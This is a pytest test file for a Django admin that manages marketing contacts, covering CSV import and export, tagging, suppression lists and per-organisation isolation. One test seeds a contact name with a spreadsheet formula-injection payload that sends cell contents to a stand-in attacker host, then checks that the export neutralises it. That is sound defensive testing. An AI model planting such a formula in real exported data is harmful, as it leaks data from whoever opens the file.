"""The marketer's audience screens in the admin."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.models import Role, User
from accounts.tests.factories import MembershipFactory
from contacts import services
from contacts.models import (
    Contact,
    ContactTag,
    ImportJob,
    ImportStatus,
    ListMembership,
    Suppression,
    SuppressionKind,
    SuppressionReason,
)
from contacts.tests.factories import ContactFactory, ContactListFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def marketer(client):
    membership = MembershipFactory(role=Role.MANAGER)
    membership.user.is_staff = True
    membership.user.save(update_fields=["is_staff"])
    client.force_login(membership.user)
    return client, membership.organization


def test_import_from_the_admin_and_watch_it(marketer, django_capture_on_commit_callbacks):
    client, org = marketer
    contact_list = ContactListFactory(organization=org)
    upload = SimpleUploadedFile("people.csv", b"email,first_name\na@example.com,A\nnope,B\n", content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/admin/contacts/importjob/add/",
            {"organization": str(org.pk), "file": upload, "tags": "from-admin", "contact_list": str(contact_list.pk)},
        )
    assert response.status_code == 302, response.content.decode()[:2000]
    job = ImportJob.objects.get(organization=org)
    assert job.status == ImportStatus.COMPLETED
    assert ListMembership.objects.filter(contact_list=contact_list).count() == 1

    page = client.get(f"/admin/contacts/importjob/{job.pk}/change/")
    assert page.status_code == 200
    assert b"100%" in page.content
    assert b"line 3: &#x27;nope&#x27; is not a valid email address" in page.content


def test_tag_and_list_actions_and_csv_export(marketer):
    client, org = marketer
    contacts = [ContactFactory(organization=org) for _ in range(3)]
    contact_list = ContactListFactory(organization=org)
    ids = [str(c.pk) for c in contacts[:2]]

    client.post("/admin/contacts/contact/", {"action": "add_tag", "_selected_action": ids, "tag": "Spring"})
    assert ContactTag.objects.filter(tag__name="Spring").count() == 2

    client.post(
        "/admin/contacts/contact/",
        {"action": "add_to_list", "_selected_action": ids, "contact_list": str(contact_list.pk)},
    )
    assert ListMembership.objects.filter(contact_list=contact_list).count() == 2

    export = client.post("/admin/contacts/contact/", {"action": "export_csv", "_selected_action": ids})
    body = b"".join(export.streaming_content).decode()
    lines = body.strip().splitlines()
    assert lines[0].startswith("email,phone,first_name,last_name")
    assert len(lines) == 3
    assert "Spring" in lines[1]


def test_admin_contact_form_normalizes_and_refuses_bad_input(marketer):
    client, org = marketer
    response = client.post(
        "/admin/contacts/contact/add/",
        {
            "organization": str(org.pk),
            "email": "New@Example.com",
            "phone": "+31 6 12345678",
            "status": "subscribed",
            "attributes": "{}",
            "tag_links-TOTAL_FORMS": "0",
            "tag_links-INITIAL_FORMS": "0",
            "list_memberships-TOTAL_FORMS": "0",
            "list_memberships-INITIAL_FORMS": "0",
        },
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    contact = Contact.objects.get(organization=org)
    assert (contact.email, contact.email_domain, contact.phone) == ("new@example.com", "example.com", "+31612345678")

    bad = client.post(
        "/admin/contacts/contact/add/",
        {
            "organization": str(org.pk),
            "email": "broken",
            "status": "subscribed",
            "attributes": "{}",
            "tag_links-TOTAL_FORMS": "0",
            "tag_links-INITIAL_FORMS": "0",
            "list_memberships-TOTAL_FORMS": "0",
            "list_memberships-INITIAL_FORMS": "0",
        },
    )
    assert bad.status_code == 200
    assert b"not a valid email address" in bad.content
    assert Contact.objects.filter(organization=org).count() == 1


def contact_form(org, **fields):
    return {
        "organization": str(org.pk),
        "status": "subscribed",
        "attributes": "{}",
        "tag_links-TOTAL_FORMS": "0",
        "tag_links-INITIAL_FORMS": "0",
        "list_memberships-TOTAL_FORMS": "0",
        "list_memberships-INITIAL_FORMS": "0",
        **fields,
    }


def test_csv_export_neutralises_formulas(marketer):
    client, org = marketer
    contact = ContactFactory(
        organization=org, first_name='=HYPERLINK("http://evil.example/?x="&A1,"click")', last_name="@SUM(1+1)"
    )
    export = client.post("/admin/contacts/contact/", {"action": "export_csv", "_selected_action": [str(contact.pk)]})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert rows[1][2] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert rows[1][3] == "'@SUM(1+1)"
    assert rows[1][0] == contact.email


def test_admin_contact_for_an_erased_address_stays_suppressed(marketer):
    client, org = marketer
    erased = ContactFactory(organization=org, email="gone@example.com")
    services.contact_erase(contact=erased)
    assert not Suppression.objects.filter(organization=org, kind=SuppressionKind.EMAIL).exists()

    response = client.post("/admin/contacts/contact/add/", contact_form(org, email=" Gone@Example.com "))

    assert response.status_code == 302, response.content.decode()[:3000]
    assert Contact.objects.get(organization=org, email="gone@example.com").consent_source == "admin"
    suppression = Suppression.objects.get(organization=org, kind=SuppressionKind.EMAIL, value="gone@example.com")
    assert suppression.reason == SuppressionReason.ERASED


def test_admin_contact_changed_to_an_erased_address_stays_suppressed(marketer):
    client, org = marketer
    services.contact_erase(contact=ContactFactory(organization=org, email="gone@example.com"))
    contact = ContactFactory(organization=org, email="here@example.com")

    response = client.post(
        f"/admin/contacts/contact/{contact.pk}/change/",
        contact_form(org, email="GONE@example.com", first_name=" Ana "),
    )

    assert response.status_code == 302, response.content.decode()[:3000]
    contact.refresh_from_db()
    assert (contact.email, contact.email_domain, contact.first_name) == ("gone@example.com", "example.com", "Ana")
    assert Suppression.objects.filter(organization=org, kind=SuppressionKind.EMAIL, value="gone@example.com").exists()


def test_admin_contact_cannot_move_to_another_organization(marketer):
    client, org = marketer
    user = User.objects.get(pk=client.session["_auth_user_id"])
    second = MembershipFactory(user=user, role=Role.MANAGER).organization
    contact = ContactFactory(organization=org, email="stay@example.com")

    response = client.post(
        f"/admin/contacts/contact/{contact.pk}/change/", contact_form(second, email="stay@example.com")
    )

    assert response.status_code == 302
    contact.refresh_from_db()
    assert contact.organization_id == org.pk


def test_admin_suppression_is_added_through_the_service(marketer):
    client, org = marketer
    response = client.post(
        "/admin/contacts/suppression/add/",
        {"organization": str(org.pk), "kind": "email", "value": "  Foo@Example.COM ", "reason": "manual"},
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    suppression = Suppression.objects.get(organization=org)
    assert (suppression.kind, suppression.value, suppression.source) == ("email", "foo@example.com", "admin")

    duplicate = client.post(
        "/admin/contacts/suppression/add/",
        {"organization": str(org.pk), "kind": "email", "value": "FOO@example.com", "reason": "manual"},
    )
    assert duplicate.status_code == 200
    assert Suppression.objects.filter(organization=org).count() == 1


@pytest.mark.parametrize(
    ("kind", "value", "error"),
    [
        ("phone", "not a phone", b"value"),
        ("email", "nope", b"not a valid email address"),
        ("email_hash", "0" * 64, b"Select a valid choice"),
    ],
)
def test_admin_suppression_refuses_bad_input_and_hash_kinds(marketer, kind, value, error):
    client, org = marketer
    response = client.post(
        "/admin/contacts/suppression/add/",
        {"organization": str(org.pk), "kind": kind, "value": value, "reason": "manual"},
    )
    assert response.status_code == 200
    assert error in response.content
    assert not Suppression.objects.filter(organization=org).exists()


def test_admin_suppression_is_not_edited_in_place(marketer):
    client, org = marketer
    erased = ContactFactory(organization=org, email="gone@example.com")
    services.contact_erase(contact=erased)
    hashed = Suppression.objects.get(organization=org, kind=SuppressionKind.EMAIL_HASH)

    client.post(
        f"/admin/contacts/suppression/{hashed.pk}/change/",
        {"organization": str(org.pk), "kind": "email", "value": "x@example.com", "reason": "manual"},
    )

    hashed.refresh_from_db()
    assert (hashed.kind, hashed.reason) == (SuppressionKind.EMAIL_HASH, SuppressionReason.ERASED)


def test_contact_page_offers_only_its_organizations_lists(marketer):
    client, org = marketer
    # Inlines follow Django's model permissions: a group may give them to staff.
    user = User.objects.get(pk=client.session["_auth_user_id"])
    user.user_permissions.set(
        Permission.objects.filter(content_type__app_label="contacts", codename__endswith="_listmembership")
    )
    contact = ContactFactory(organization=org)
    ContactListFactory(organization=org, name="Our newsletter")
    ContactListFactory(name="Their secret list")
    page = client.get(f"/admin/contacts/contact/{contact.pk}/change/")
    assert page.status_code == 200
    assert b"Our newsletter" in page.content
    assert b"Their secret list" not in page.content
